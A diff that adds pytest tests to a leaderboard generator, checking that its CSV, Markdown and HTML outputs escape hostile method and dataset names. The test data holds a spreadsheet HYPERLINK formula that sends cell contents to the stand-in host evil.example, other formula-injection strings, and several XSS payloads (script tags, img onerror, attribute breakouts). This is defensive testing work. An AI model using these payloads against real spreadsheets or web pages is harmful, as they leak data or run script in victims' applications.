@@ -208,6 +208,45 @@ def test_crops_are_embedded_only_from_the_results_folder_and_only_images(tmp_pat
     assert any("res.jsonl:4: crop 'output'" in w and "3 is not a path" in w for w in warnings), warnings
 
 
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_text_is_escaped_for_csv_markdown_and_html(tmp_path):
+    rows = [
+        {**_restoration_row(HOSTILE, -3.5, "=1+1"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("a|b <script>alert(1)</script>\n| x |", 2.0, 0.5), "task": "de|haze",
+         "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("-2+3", 1.0, "-0.25"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("cost $\\frac$", 4.0, 0.1), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+    ]
+    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
+    with open(paths["csv"], newline="") as f:
+        header, *body = list(csv.reader(f))
+    cells = {r[2]: dict(zip(header, r)) for r in body}
+    assert set(cells) == {"'" + HOSTILE, "a|b <script>alert(1)</script>\n| x |", "'-2+3", "cost $\\frac$"}
+    row = cells["'" + HOSTILE]
+    assert row["task"] == "de|haze" and row["dataset"] == "'@SUM(A1)" and row["ssim"] == "'=1+1"
+    assert row["psnr"] == "-3.5" and float(row["psnr"]) == -3.5  # a negative number stays a number
+    assert cells["'-2+3"]["ssim"] == "-0.25"  # text that is only a number is not a formula
+    for r in body:
+        for cell in r:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)
+    md = paths["md"].read_text()
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(table) == 2 + 4  # header, rule and one line per method: no row broken by a newline
+    for line in table:
+        assert len(re.findall(r"(?<!\\)\|", line)) == len(table[0].split(" | ")) + 1, line
+    assert "<script>" not in md and "\\<script\\>alert(1)\\</script\\>" in md
+    assert "## de\\|haze / @SUM(A1)" in md and "\\&A1" in md
+    html = paths["html"].read_text()
+    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "data-task='de|haze' data-dataset='@SUM(A1)'" in html
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in html
+    assert html.count("alt='bar plot") == 1  # the $ of a method name did not break the plot
+
+
 def test_leaderboard_cli_errors_name_the_file_and_line(tmp_path):
     from click.testing import CliRunner
 
@@ -223,3 +262,22 @@ def test_leaderboard_cli_errors_name_the_file_and_line(tmp_path):
         assert res.exit_code == 1 and res.output.startswith(f"Error: {message}"), res.output
         assert len(res.output.strip().splitlines()) == 1
     assert not (tmp_path / "lb").exists()
+
+
+@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (apt-get install chromium)")
+def test_hostile_names_stay_text_in_chromium(tmp_path):
+    names = ["<img src=x onerror=\"document.title='pwned'\">", "</td></tr></table><script>document.title='pwned'</script>",
+             "x' onmouseover='document.title=1"]
+    rows = [{**_restoration_row(n, 10.0 + i, 0.5), "dataset": {"name": "d' data-x='1"}} for i, n in enumerate(names)]
+    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
+    dom = subprocess.run(
+        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+         "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", paths["html"].resolve().as_uri()],
+        check=True, capture_output=True, text=True, timeout=120,
+    ).stdout  # fmt: skip
+    assert "<title>robustsam-restore leaderboard</title>" in dom and "pwned</title>" not in dom
+    assert dom.count("<script>") == 1 and "data-x" not in dom.replace("d' data-x='1", "")
+    import html as html_lib
+
+    cells = [html_lib.unescape(c) for c in re.findall(r'<td class="method">(.*?)</td>', dom, flags=re.S)]
+    assert cells == names
